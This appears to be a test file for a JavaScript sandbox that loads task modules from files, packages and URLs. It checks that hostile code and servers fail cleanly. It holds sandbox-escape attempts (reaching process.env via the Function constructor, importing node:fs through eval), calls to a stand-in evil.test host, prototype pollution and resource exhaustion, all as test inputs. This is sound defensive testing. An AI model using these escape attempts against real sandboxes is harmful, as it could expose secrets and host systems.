/**
 * Tests tasks that are named by address (files, packages and URLs), and hostile modules and servers. Each hostile one must end in one error
 * message, and no worker may remain.
 */

import { mkdirSync, mkdtempSync, readdirSync, writeFileSync } from 'node:fs';
import { createServer, type RequestListener } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, describe, expect, test, vi } from 'vitest';
import { InputError, type UserCodeError } from '../../src/errors.ts';
import { localTexts } from '../../src/cli/importModule.ts';
import { openTask } from '../../src/cli/run/openTask.ts';
import { decodePlain, encodePlain } from '../../src/extensions/sandbox/plain.ts';
import { type IsolatedLimits, isolatedTask } from '../../src/extensions/modules/isolated.ts';
import { fetchSource, SOURCE_LIMITS } from '../../src/extensions/modules/source.ts';
import { Guest } from '../../src/extensions/sandbox/sandbox.ts';
import { checkedTask } from '../../src/tasks/checkedTask.ts';
import type { Rng } from '../../src/tasks/random.ts';
import type { Problem, ScoredSample, Task } from '../../src/tasks/task.ts';
import { portOf } from '../hubServer.ts';
import { stub } from '../stub.ts';

const closing: (() => unknown)[] = [];
afterEach(async () => {
  vi.restoreAllMocks();
  for (const close of closing.splice(0)) await close();
});

const ENTRY = 'https://example.test/tasks/mine.js';

/** Returns the text of a task module with working functions, except those that `parts` replaces. */
const moduleOf = (parts: Record<string, string> = {}, before = '') => `${before}
const problem = (id) => ({ id, messages: [{ role: 'user', content: 'x' }], answer: '1' });
export default {
  name: ${parts['name'] ?? "'mine'"},
  train: ${parts['train'] ?? '(index) => problem(`train-${index}`)'},
  heldOut: ${parts['heldOut'] ?? '(count) => Array.from({ length: count }, (_, i) => problem(`held-out-${i}`))'},
  reward: ${parts['reward'] ?? '() => ({ score: 1, acc: 1 })'},
  ${parts['more'] ?? ''}
};`;

/** Limits against hanging, for work that ends by itself long before. */
const HANG_LIMITS = { timeoutMs: 60_000, loadMs: 60_000 };
/** Time limit in milliseconds for work that never ends, so its value does not matter. */
const SHORT_MS = 100;

async function isolated(files: string | Record<string, string>, limits: IsolatedLimits = HANG_LIMITS): Promise<Task> {
  const task = await open(files, limits);
  closing.push(() => task.close?.());
  return task;
}

async function open(files: string | Record<string, string>, limits: IsolatedLimits): Promise<Task> {
  const texts = typeof files === 'string' ? { [ENTRY]: files } : files;
  const read = (address: string) =>
    Object.hasOwn(texts, address) ? Promise.resolve(texts[address]) : Promise.reject(new Error(`no ${address}`));
  return isolatedTask({ entry: ENTRY, root: 'https://example.test/', read }, {}, limits);
}

/** Returns a function that opens a task module in one worker, which all tests of a `describe` share. */
function once(text: string): () => Promise<Task> {
  let opening: Promise<Task> | undefined;
  afterAll(async () => (await opening)?.close?.());
  return () => (opening ??= open(text, HANG_LIMITS));
}

const sample = stub<ScoredSample>({ problem: { id: 'p', messages: [], answer: '1' }, response: 'r' });
const CALLS: Record<string, (task: Task) => unknown> = {
  train: (task) => task.train(3, 1),
  heldOut: (task) => task.heldOut(2),
  reward: (task) => task.reward(sample),
};
const NAMED: Record<string, string> = {
  train: 'Training problem 3',
  heldOut: 'The list of held-out problems',
  reward: 'The reward of problem "p"',
};

describe('a hostile module', () => {
  test('throws in each function: said with its line; the next call is answered', async () => {
    const broken = '() => { throw new TypeError("broken") }';
    const task = await isolated(moduleOf({ train: broken, heldOut: broken, reward: broken }));
    for (const [part, call] of Object.entries(CALLS))
      await expect(call(task)).rejects.toThrow(
        new RegExp(
          `^${NAMED[part]} of task module ${ENTRY} threw "TypeError: broken" \\(at ${part} \\(${ENTRY}:\\d+:\\d+\\)\\)`,
        ),
      );
  });

  const isFull = process.env['FULL_TESTS'] === '1';
  test.each(Object.keys(CALLS).filter((part) => isFull || part === 'reward'))(
    'hangs in %s: ended at its limit, its worker replaced',
    async (part) => {
      const limits = { ...HANG_LIMITS };
      const task = await isolated(moduleOf({ [part]: '() => { for (;;); }' }), limits);
      limits.timeoutMs = SHORT_MS;
      const ended = vi.spyOn(Guest.prototype, 'end');
      await expect(CALLS[part](task)).rejects.toThrow(
        `${NAMED[part]} of task module ${ENTRY} ran longer than 0.1 s (task.timeoutS)`,
      );
      limits.timeoutMs = HANG_LIMITS.timeoutMs;
      expect(ended).toHaveBeenCalledTimes(1);
      const other = part === 'reward' ? 'train' : 'reward';
      await expect(CALLS[other](task)).resolves.toBeDefined();
      task.close!();
      expect(ended).toHaveBeenCalledTimes(2);
    },
  );

  test.each<[string, string, string, loadMs?: number]>([
    ['hangs when it is loaded', 'for (;;);', 'ran longer than 0.1 s', SHORT_MS],
    ['throws when it is loaded', 'null.x', `TypeError: cannot read property 'x' of null (at <anonymous> (${ENTRY}:1:`],
    ['does not parse', 'let = ;', 'SyntaxError: '],
    ['exports nothing', 'export const a = 1;', 'it has neither a default export nor an export named task'],
    [
      'has environments',
      moduleOf({ more: 'environments: [],' }),
      'it has "environments", which only a file outside the',
    ],
    ['has ask', moduleOf({ more: 'ask: () => [],' }), 'it has "ask", which only a file outside the sandbox (without'],
    ['has a name that is none', moduleOf({ name: "'a b'" }), 'does not export a task (name: '],
    [
      'imports a package',
      "import 'lodash';",
      'import "lodash": an isolated module has no packages; bundle what it needs',
    ],
    ['imports from elsewhere', "import 'https://evil.test/x.js';", 'imports from https://example.test/ alone'],
    ['imports what is not there', "import './no.js';", 'no https://example.test/tasks/no.js'],
  ])('%s', async (_, text, sentence, loadMs = HANG_LIMITS.loadMs) => {
    const ended = vi.spyOn(Guest.prototype, 'end');
    await expect(isolated(text, { ...HANG_LIMITS, loadMs })).rejects.toThrow(sentence);
    expect(ended).toHaveBeenCalled();
  });

  const RETURNED: [string, string, RegExp][] = [
    [
      '10 MB',
      '() => ({ score: 1, acc: 1, pred: "x".repeat(1e7) })',
      /returned what cannot leave the sandbox: it has 100000\d\d characters as JSON/,
    ],
    [
      'a circle',
      '() => { const a = {}; a.a = a; return a; }',
      /returned what cannot leave the sandbox: circular reference/,
    ],
    ['a bigint', '() => 1n', /returned what cannot leave the sandbox: /],
    ['a function', '() => () => 1', /returned what cannot leave the sandbox: it is a function or a symbol/],
    [
      '100 levels',
      '() => { let a = 1; for (let i = 0; i < 100; i++) a = [a]; return a; }',
      /nested deeper than 64 levels/,
    ],
    // Only in full, because it takes seconds. Memory without end breaks the sandbox every day.
    ['levels without end', '() => { let a = 1; for (let i = 0; i < 2e4; i++) a = [a]; return a; }', /of task module/],
    ['a key __proto__', '() => JSON.parse(\'{"__proto__":{"bad":1}}\')', /a key "__proto__", which is not allowed/],
    ['a getter that throws', '() => ({ get score() { throw new Error("got") } })', /cannot leave the sandbox: got/],
    ['a promise that is never settled', '() => new Promise(() => {})', /its promise is never settled/],
    [
      'an error that cannot be read',
      '() => { throw { get message() { throw 1 } } }',
      /threw "an error without a readable message"/,
    ],
    ['memory without end', '() => { const a = []; for (;;) a.push(new Uint8Array(1e7)); }', /of task module/],
  ];
  describe('returns from its reward', () => {
    const rewards = RETURNED.map(([name, reward]) => `"${name}": ${reward}`).join();
    const task = once(moduleOf({ reward: `({ response }) => ({ ${rewards} })[response]()` }));
    const tried = RETURNED.filter(([name]) => isFull || name !== 'levels without end');
    test.each(tried)('%s', async (response, _, sentence) => {
      await expect((await task()).reward({ ...sample, response })).rejects.toThrow(sentence);
      await expect((await task()).train(0, 1)).resolves.toMatchObject({ id: 'train-0' });
    });
  });

  const REACHED = [
    'fetch XMLHttpRequest WebSocket EventSource importScripts indexedDB localStorage sessionStorage',
    'caches navigator process require SharedArrayBuffer postMessage parent self window document',
    'Worker crypto WebAssembly setTimeout module Buffer Deno Bun',
  ].flatMap((names) => names.split(' '));
  test('a module cannot reach what a page or Node has', async () => {
    const reward = `() => ({ score: 0, acc: 0, pred: ${JSON.stringify(REACHED)}.filter((name) => name in globalThis || (0, eval)('typeof ' + name) !== 'undefined').join() })`;
    expect(await (await isolated(moduleOf({ reward }))).reward(sample)).toEqual({ score: 0, acc: 0, pred: '' });
    const fetching = await isolated(moduleOf({ reward: '() => fetch("https://evil.test/" + 1)' }));
    const sentence = `threw "ReferenceError: 'fetch' is not defined" (at reward (${ENTRY}:`;
    await expect(fetching.reward(sample)).rejects.toThrow(sentence);
  });

  const TRIED = [
    ['import("./late.js")', 'a module is loaded with all that it imports'],
    ['import("https://evil.test/x.js")', 'imports from https://example.test/ alone'],
    ['eval("import(\'node:fs\')")', 'imports from https://example.test/ alone'],
    ['Function("return process")()', "'process' is not defined"],
    ['(() => {}).constructor.constructor("return globalThis.process.env")()', 'TypeError'],
  ];
  describe('tries', () => {
    const codes = TRIED.map(([code]) => `async () => { await ${code}; return { score: 1, acc: 1 }; }`).join();
    const task = once(moduleOf({ reward: `({ response }) => [${codes}][response]()` }));
    test.each(TRIED.map(([code, sentence], i) => [code, sentence, i] as const))('%s', async (_, sentence, i) => {
      await expect((await task()).reward({ ...sample, response: String(i) })).rejects.toThrow(sentence);
    });
  });

  test('a module that changes prototypes changes nothing outside, and calls continue', async () => {
    const before = `
      Array.prototype.map = Array.prototype.includes = () => { throw 1; };
      Object.prototype.toJSON = undefined; Object.prototype.polluted = 'yes';
      JSON.parse = JSON.stringify = () => '"mine"'; Promise.prototype.then = () => { throw 1; };
      Map.prototype.get = () => 1; String.prototype.slice = () => 1; Reflect.apply = () => 1;
      globalThis.Number = globalThis.Error = undefined;`;
    const task = await isolated(moduleOf({ heldOut: '(n) => [problem("h")]' }, before));
    expect(await task.train(0, 1)).toMatchObject({ id: 'train-0', answer: '1' });
    expect(await task.heldOut(1)).toMatchObject([{ id: 'h' }]);
    expect(await task.reward(sample)).toEqual({ score: 1, acc: 1 });
    expect(({} as { polluted?: string }).polluted).toBeUndefined();
    expect(JSON.stringify([1].map((x) => x))).toBe('[1]');
  });
});

test('randomness and time depend only on the call, in any order of calls', async () => {
  const reward = '({ response }) => ({ score: Math.random(), acc: 0, pred: response + Date.now() })';
  const [a, b] = [await isolated(moduleOf({ reward })), await isolated(moduleOf({ reward }))];
  const of = (task: Task, response: string) => task.reward({ ...sample, response });
  const first = [await of(a, 'x'), await of(a, 'y')];
  expect([await of(b, 'y'), await of(b, 'x')].reverse()).toEqual(first);
  expect(first[0].score).not.toBe(first[1].score);
});

test('the held-out problems of every data source leave the sandbox', async () => {
  const heldOut = "() => ['a', 'b'].map((dataSource) => ({ ...problem(dataSource), dataSource }))";
  const task = await isolated(moduleOf({ heldOut }));
  expect(await task.heldOut(1)).toMatchObject([{ dataSource: 'a' }, { dataSource: 'b' }]);
});

test('tools, their states and observe work; a restarted worker continues from the observed state', async () => {
  const more = `
    tools: [{
      name: 'count', description: 'Counts.', parameters: { type: 'object', properties: {} },
      create: () => ({ n: 0 }), execute: (args, { state }) => String(++state.n), calcReward: ({ n }) => n, release: () => {},
    }],
    observe: (problem, rewards) => { level += rewards.length; },
    state: () => ({ level }), restore: (state) => { level = state.level; },
    demonstrate: (problem) => [{ role: 'assistant', content: problem.answer }],`;
  const reward =
    '({ response, toolStates }) => { if (response === "hang") for (;;); return { score: toolStates?.count.n ?? level, acc: 0 }; }';
  const limits = { ...HANG_LIMITS };
  const task = await isolated(moduleOf({ more, reward }, 'let level = 0;'), limits);
  const [tool] = task.tools!;
  const context = { sampleId: 's', problem: sample.problem, signal: new AbortController().signal };
  const state = await tool.create!(context);
  expect([await tool.execute({}, { ...context, state }), await tool.execute({}, { ...context, state })]).toEqual([
    '1',
    '2',
  ]);
  expect(await tool.calcReward!(state)).toBe(2);
  await tool.release!(state);
  expect(await task.reward({ ...sample, toolStates: { count: state } })).toEqual({ score: 2, acc: 0 });
  await task.observe!(sample.problem, [
    { score: NaN, acc: 0 },
    { score: 1, acc: 1 },
  ]);
  expect(task.state!()).toEqual({ level: 2 });
  limits.timeoutMs = SHORT_MS;
  await expect(task.reward({ ...sample, response: 'hang' })).rejects.toThrow('ran longer than 0.1 s');
  limits.timeoutMs = HANG_LIMITS.timeoutMs;
  expect(await task.reward(sample)).toEqual({ score: 2, acc: 0 });
  await tool.create!({ ...context, sampleId: 'another' });
  await expect(tool.execute({}, { ...context, state })).rejects.toThrow('the state of this sample is gone');
});

test.each([
  ['state: () => 1', 'Task "mine" has state() without restore()'],
  ['restore() {}, observe() {}', 'Task "mine" has restore() without state()'],
  ['state: () => 1, restore() {}', 'Task "mine" has state() without observe()'],
])('a sandboxed task whose state checkpoints would not hold is refused: %s', async (more, message) => {
  await expect(isolated(moduleOf({ more }))).rejects.toThrow(message);
});

test("a tool can return any JSON value; other values are the module's mistake, and errors are shown to the model", async () => {
  const tools = ['[1, "a"]', 'undefined', 'new Map([[1, 2]])', '[() => 1]', '({ n: 1n })', 'null.x'];
  const listed = tools.map(
    (result, i) =>
      `{ name: 't${i}', description: '', parameters: { type: 'object', properties: {} }, execute: () => ${result} }`,
  );
  const task = await isolated(moduleOf({ more: `tools: [${listed.join()}],` }));
  const context = { sampleId: 's', problem: sample.problem, state: undefined, signal: new AbortController().signal };
  const ended = await Promise.allSettled(task.tools!.map(async (tool) => tool.execute({}, context)));
  expect(ended[0]).toMatchObject({ value: [1, 'a'] });
  const kinds = ended.slice(1).map((one) => (one.status === 'rejected' ? (one.reason as UserCodeError).kind : ''));
  expect(kinds).toEqual([...Array<string>(4).fill('tool returned'), 'tool.execute threw']);
  expect(String((ended[2] as PromiseRejectedResult).reason)).toContain('execute of tool "t2" of task module');
  expect(String((ended[2] as PromiseRejectedResult).reason)).toContain('an instance of Map');
});

test('values are unchanged across the sandbox, including NaN and infinities', () => {
  const value = { a: [NaN, Infinity, -Infinity, -1.5, null, 'x"]}'], $number: 'NaN', b: { c: {} } };
  expect(decodePlain(encodePlain(value))).toEqual(value);
  expect(() => encodePlain('x'.repeat(4_000_001))).toThrow('at most 4000000 may cross');
});

async function served(answer: RequestListener): Promise<string> {
  const server = createServer(answer);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  closing.push(() => (server.closeAllConnections(), server.close()));
  return `http://127.0.0.1:${portOf(server)}/mine.js`;
}
const JS = { 'content-type': 'text/javascript' };
const moduleTask = (module: string, more: object = {}) =>
  openTask({ name: 'gsm8k', module, timeoutS: 20, options: {}, ...more });

describe('a hostile server', () => {
  test.each<[string, RequestListener, string]>([
    [
      'redirects elsewhere',
      (_, r) => r.writeHead(302, { location: 'https://evil.test/' }).end(),
      'redirects to https://evil.test/. Give the',
    ],
    [
      'redirects to a private address',
      (_, r) => r.writeHead(307, { location: 'http://10.0.0.1/' }).end(),
      'redirects to http://10.0.0.1/',
    ],
    ['has none', (_, r) => r.writeHead(404).end(), 'was not found: its server answered 404'],
    [
      'sends a web page',
      (_, r) => r.writeHead(200, { 'content-type': 'text/html' }).end('<p>'),
      'is text/html, not text/javascript',
    ],
    ['sends 5 MB', (_, r) => void r.writeHead(200, JS).end('x'.repeat(5e6)), 'is larger than 1000000 bytes'],
    ['sends no text', (_, r) => r.writeHead(200, JS).end(Buffer.from([0xff, 0xfe])), 'is not UTF-8 text'],
    ['hangs up', (_, r) => void r.destroy(), 'could not be fetched: its server cannot be reached ('],
    ['never answers', () => undefined, 'did not arrive in 0.2 s'],
    ['never ends its answer', (_, r) => void r.writeHead(200, JS).write('x'), 'did not arrive in 0.2 s'],
  ])('%s', async (_, answer, sentence) => {
    const limits = { ...SOURCE_LIMITS, timeoutMs: sentence.includes('0.2 s') ? 200 : 30_000 };
    await expect(fetchSource(await served(answer), limits)).rejects.toThrow(sentence);
  });

  test.each([
    'http://example.test/x.js',
    'ftp://example.test/x.js',
    'data:text/javascript,1',
    'https://me:secret@example.test/',
  ])('an address that is none: %s', async (address) => {
    await expect(moduleTask(address)).rejects.toThrow(/^task\.module is ".*"; allowed: https:\/\//);
    await expect(moduleTask(address)).rejects.not.toThrow('secret');
  });

  test('a module of a server runs isolated, with its imports, and is known by its SHA-256', async () => {
    let text = 'export const n = 1;';
    const main = `import { n } from './n.js'; ${moduleOf({ reward: '() => ({ score: n, acc: 0 })' })}`;
    const address = await served(({ url }, r) => void r.writeHead(200, JS).end(url === '/n.js' ? text : main));
    const opened = async () => {
      const task = await moduleTask(address);
      closing.push(() => task.close?.());
      return task;
    };
    const first = await opened();
    expect(await first.reward(sample)).toEqual({ score: 1, acc: 0 });
    expect((await opened()).sha256).toBe(first.sha256);
    text = 'export const n = 2;';
    expect((await opened()).sha256).not.toBe(first.sha256);
    await expect(moduleTask(address, { isolated: false })).rejects.toThrow(
      'code of other hosts runs only in the sandbox',
    );
  });
});

describe('in Node', () => {
  const folder = mkdtempSync(join(tmpdir(), 'webgrpo-module-'));
  const write = (name: string, text: string) => {
    mkdirSync(join(folder, name, '..'), { recursive: true });
    writeFileSync(join(folder, name), text);
    return join(folder, name);
  };

  test('a change of a file that a module imports changes its SHA-256', async () => {
    const rewards = write('parts/rewards.mjs', 'export const score = 1;');
    write('parts/more.mjs', "export * from './rewards.mjs'; export const own = () => import('../split.mjs');");
    const reward = '() => ({ score, acc: 0 })';
    const path = write('split.mjs', `import { score } from "./parts/more.mjs"; ${moduleOf({ reward })}`);
    const { sha256 } = await moduleTask(path);
    expect((await moduleTask(path)).sha256).toBe(sha256);
    expect([...localTexts(path).keys()]).toEqual([
      'split.mjs',
      join('parts', 'more.mjs'),
      join('parts', 'rewards.mjs'),
    ]);
    writeFileSync(rewards, 'export const score = 2;');
    expect((await moduleTask(path)).sha256).not.toBe(sha256);
  });

  test('a file runs like our own code, or isolated if requested', async () => {
    const text = moduleOf({ reward: "() => ({ score: typeof process === 'object' ? 1 : 0, acc: 0 })" });
    const path = write('own.mjs', text);
    expect(await (await moduleTask(path)).reward(sample)).toEqual({ score: 1, acc: 0 });
    const task = await moduleTask(path, { isolated: true });
    expect(await task.reward(sample)).toEqual({ score: 0, acc: 0 });
    task.close!();
    await expect(moduleTask(write('bad.mjs', '\nthrow new Error("at load")'))).rejects.toThrow(
      /does not load: at load \(bad\.mjs:2/,
    );
    await expect(moduleTask(write('none.mjs', 'export default 5'))).rejects.toThrow('does not export a task');
    const fields = 'name: "x", train: () => 1, heldOut: () => [], reward: () => 1';
    for (const [field, meant] of Object.entries({
      tool: 'tools',
      train_size: 'trainSize',
      Environment: 'environments',
    }))
      await expect(moduleTask(write(`${field}.mjs`, `export default { ${fields}, ${field}: 1 }`))).rejects.toThrow(
        `has a field "${field}", which tasks do not have. Did you mean "${meant}"? Rename it.`,
      );
    await moduleTask(write('own.mjs', `export default { ${fields}, rewards: 1, words: [], tools: [] }`));
    await expect(moduleTask('./nothing-there.js')).rejects.toThrow('there is no file ./nothing-there.js in');
    await expect(moduleTask('no-such-package-here')).rejects.toThrow(
      'neither a file nor a package that is installed here',
    );
    await expect(moduleTask(path, { path: 'x.jsonl' })).rejects.toThrow('task.module provides its own problems');
  });

  const promise = 'new Promise(() => {})';
  const rng = stub<Rng>({});
  const problem = stub<Problem>({ id: 'p' });
  test.each<[Record<string, string>, (task: Task) => unknown, string]>([
    [
      { heldOut: '() => ({ a: 1 })' },
      (task) => task.heldOut(1),
      'The list of held-out problems of task "mine" is {"a":1}. Return a list',
    ],
    [
      { heldOut: '() => {}' },
      (task) => task.heldOut(1),
      'is undefined. Return a list of problems from heldOut(count).',
    ],
    [{ heldOut: 'function* () { for (;;) yield problem("a"); }' }, (task) => task.heldOut(1), 'is {}. Return a list'],
    [{ heldOut: '() => { throw new Error("disk") }' }, (task) => task.heldOut(1), 'threw "disk" (at Object.heldOut ('],
    [
      { heldOut: `() => ${promise}` },
      (task) => task.heldOut(1),
      'did not resolve in 0.1 s (task.timeoutS). Return a list',
    ],
    [
      { heldOut: '() => [Promise.resolve(problem("a")), Promise.resolve(5)]' },
      (task) => task.heldOut(2),
      'Held-out problem 1 of task "mine" has no messages',
    ],
    [
      { train: `() => ${promise}` },
      (task) => task.train(3, 1),
      'Training problem 3 of task "mine" did not resolve in 0.1 s (task.timeoutS). Give',
    ],
    [{ train: '() => 5' }, (task) => task.train(3, 1), 'Training problem 3 of task "mine" has no messages'],
    [
      { more: 'observe() { throw new Error("x") }' },
      (task) => task.observe?.(problem, []),
      'observe() of problem "p" of task "mine" threw "x" (at Object.observe (',
    ],
    [
      { more: `observe: () => ${promise}` },
      (task) => task.observe?.(problem, []),
      'did not resolve in 0.1 s (task.timeoutS). Mend observe(',
    ],
    ...[
      'undefined',
      '"#### 4"',
      '[]',
      '[null]',
      '[{ role: "model", content: "1" }]',
      '[{ role: "tool", content: "1" }]',
    ].map((given): [Record<string, string>, (task: Task) => unknown, string] => [
      { more: `demonstrate: () => (${given})` },
      (task) => task.demonstrate?.(problem, rng, 0),
      'The demonstration of problem "p" of task "mine" is ',
    ]),
    [
      { more: 'demonstrate: (p, rng) => rng.next()' },
      (task) => task.demonstrate?.(problem, rng, 0),
      'threw "rng.next is not a function"',
    ],
    [
      { more: 'state: () => ({ a: 7n }), restore() {}' },
      (task) => task.state?.(),
      'The result of state() of task "mine" is a bigint under "a". Return plain JSON.',
    ],
    [{ more: 'state: () => new Map(), restore() {}' }, (task) => task.state?.(), 'is an instance of Map. Return'],
    [{ more: 'state: async () => 1, restore() {}' }, (task) => task.state?.(), 'is an instance of Promise. Return'],
    [
      { more: 'state: () => 1, async restore() {}' },
      (task) => task.restore?.(1),
      'The result of restore() of task "mine" is a promise. Restore',
    ],
    [
      { more: 'ask: () => "x"' },
      (task) => task.ask?.('y'),
      'The result of ask() of task "mine" is "x". Return a list of messages',
    ],
  ])('a file with %j: one error message of two sentences', async (parts, call, sentence) => {
    const opened = await moduleTask(write(`${Math.random()}.mjs`, moduleOf(parts)));
    const task = checkedTask(opened, Object.values(parts).join().includes(promise) ? SHORT_MS : HANG_LIMITS.timeoutMs);
    const error: unknown = await (async () => call(task))().catch((thrown: unknown) => thrown);
    expect(error).toBeInstanceOf(InputError);
    expect((error as Error).message).toContain(sentence);
    expect((error as Error).message).toMatch(/^[^\n]+[^.\n]\. [A-Z][^\n]*\.$/);
  });

  test.each([
    ['export default null', '(it exports undefined). Export { name,'],
    ['export default []', '(it exports []). Export'],
    ['export default () => {}', '(it exports undefined). Export'],
    [`export default () => ${promise}`, 'did not resolve in 0.1 s (task.timeoutS). Resolve or reject'],
    [moduleOf({}, `await ${promise};`), 'did not resolve in 0.1 s (task.timeoutS). Resolve or reject'],
    [
      moduleOf({ more: 'observe: "yes"' }),
      'Task "mine" has "yes" as "observe". Give a function, or leave the field out.',
    ],
    [
      moduleOf({ more: 'state: () => 1' }),
      'has state() without restore(), so a resumed run would lose its state. Write both',
    ],
    [moduleOf({ more: 'tokenizer: 7' }), '(tokenizer: Invalid type'],
    [
      moduleOf().replace('reward:', 'rewards:'),
      'a field "rewards", which tasks do not have. Did you mean "reward"? Rename it.',
    ],
    [moduleOf().replace('heldOut:', 'held_out:'), 'Did you mean "heldOut"? Rename it.'],
  ])('the file %j is refused', async (text, message) => {
    const limit = { timeoutS: (text.includes(promise) ? SHORT_MS : HANG_LIMITS.timeoutMs) / 1000 };
    await expect(moduleTask(write(`${Math.random()}.mjs`, text), limit)).rejects.toThrow(message);
  });

  test('a task that is an instance of a class keeps its methods', async () => {
    const { sha256, ...task } = await moduleTask(
      write(
        'class.mjs',
        `${moduleOf()}`.replace(/export default \{[^]*/, '') +
          `class Mine {
          #count = 0; name = 'mine'; tools = [];
          train(index) { this.#count++; return problem('a' + index); }
          heldOut() { return [problem('b')]; }
          reward() { return { score: this.#count, acc: 1 }; }
          state() { return this.#count; }
          restore(count) { this.#count = count; }
        }
        export default new Mine();`,
      ),
    );
    expect(sha256).toHaveLength(64);
    expect([await task.train(4, 1), await task.heldOut(1)]).toMatchObject([{ id: 'a4' }, [{ id: 'b' }]]);
    expect([await task.reward(sample), task.state?.()]).toEqual([{ score: 1, acc: 1 }, 1]);
  });

  test('examples/task-module.js gives the same problems and rewards, isolated and not', async () => {
    const given = async (isolated: boolean) => {
      const task = await moduleTask('./examples/task-module.js', { isolated, options: { most: 9 } });
      const problem = await task.train(1, 2);
      const rewards = [
        await task.reward({ ...sample, problem, response: `#### ${problem.answer}` }),
        await task.reward(sample),
      ];
      const all = [task.name, problem, await task.heldOut(4), rewards];
      task.close?.();
      return all;
    };
    const own = await given(false);
    expect(own).toMatchObject(['sums', { id: 'train-1' }, {}, [{ acc: 1 }, { acc: 0 }]]);
    expect(await given(true)).toEqual(own);
  });

  test('TypeScript, by Node itself or by a bundler that is installed', async () => {
    const typed = `const one: number = 1;\n${moduleOf({ reward: '() => ({ score: one, acc: 0 })' })}`;
    mkdirSync('test/tmp-task-module', { recursive: true });
    closing.push(async () => (await import('node:fs')).rmSync('test/tmp-task-module', { recursive: true }));
    writeFileSync('test/tmp-task-module/typed.ts', typed);
    expect(await (await moduleTask('./test/tmp-task-module/typed.ts')).reward(sample)).toEqual({ score: 1, acc: 0 });
    expect(readdirSync('test/tmp-task-module')).toEqual(['typed.ts']);
    const task = await moduleTask('./test/tmp-task-module/typed.ts', { isolated: true });
    expect(await task.reward(sample)).toEqual({ score: 1, acc: 0 });
    task.close!();
  });

  test('a package of the working folder, by its exports', async () => {
    write(
      'node_modules/@me/tasks/package.json',
      JSON.stringify({ exports: { './sum': { import: './sum.mjs' } }, name: '@me/tasks' }),
    );
    write('node_modules/@me/tasks/sum.mjs', moduleOf({ name: "'sum'" }));
    vi.spyOn(process, 'cwd').mockReturnValue(folder);
    expect((await moduleTask('@me/tasks/sum')).name).toBe('sum');
    await expect(moduleTask('@me/tasks/other')).rejects.toThrow('does not export "./other"');
  });
});
